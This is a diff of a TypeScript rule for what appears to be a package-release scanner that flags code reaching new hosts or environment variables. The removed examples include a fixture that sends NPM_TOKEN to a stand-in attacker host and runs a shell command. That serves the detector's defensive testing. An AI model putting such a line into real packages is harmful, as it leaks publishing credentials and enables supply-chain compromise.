@@ -1,7 +1,6 @@
 import * as z from 'zod'
 import type { Capabilities, Capability } from '../../model/inventory.ts'
 import { defineRule } from '../../model/rule.ts'
-import { release } from './content/example-releases.ts'
 import { releaseLabel } from './content/release-label.ts'
 
 /** Read by so much code that a new reader says nothing. */
@@ -14,8 +13,11 @@ const ORDINARY_VARIABLES = new Set([
   'NO_COLOR',
   'TERM',
 ])
+
 const WHY = 'Code that a release did not have before reaches further than the last one did.'
+
 const FIX = 'Find the change that brought it in, and make sure that it is meant.'
+
 const KINDS = {
   hosts: 'hosts',
   environment: 'environment',
@@ -24,8 +26,6 @@ const KINDS = {
   telemetry: 'telemetry',
   featureFlags: 'flags',
 } as const satisfies Record<keyof Capabilities, string>
-
-const CODE = "module.exports = require('http').get('http://api.acme.dev/v1')\n"
 
 export default defineRule({
   meta: {
@@ -76,38 +76,6 @@ export default defineRule({
       fix: 'Rename what must not be known, or leave the code out.',
       severity: { 'open-source': 'notice', proprietary: 'notice' },
     },
-  },
-  examples: {
-    bad: [
-      {
-        title: 'A token sent to a host',
-        before: release('1.0.0'),
-        files: release(
-          '1.0.1',
-          {},
-          {
-            'send.js':
-              "require('https').get('https://collect.evil-host.dev/?' + process.env.NPM_TOKEN)\nrequire('node:child_process').exec('id')\n",
-          },
-        ),
-      },
-    ],
-    good: [
-      {
-        title: 'The same as before',
-        before: release('1.0.0', {}, { 'get.js': CODE }),
-        files: release('1.0.1', {}, { 'get.js': `${CODE}// see https://docs.acme.dev\n` }),
-      },
-      {
-        title: 'What only a comment and a text name',
-        before: release('1.0.0'),
-        files: release(
-          '1.0.1',
-          {},
-          { 'say.js': "// require('net'), process.env.TOKEN\nexports.text = 'see http://acme.dev'\n" },
-        ),
-      },
-    ],
   },
   package({ comparison }, context) {
     if (comparison === undefined) return
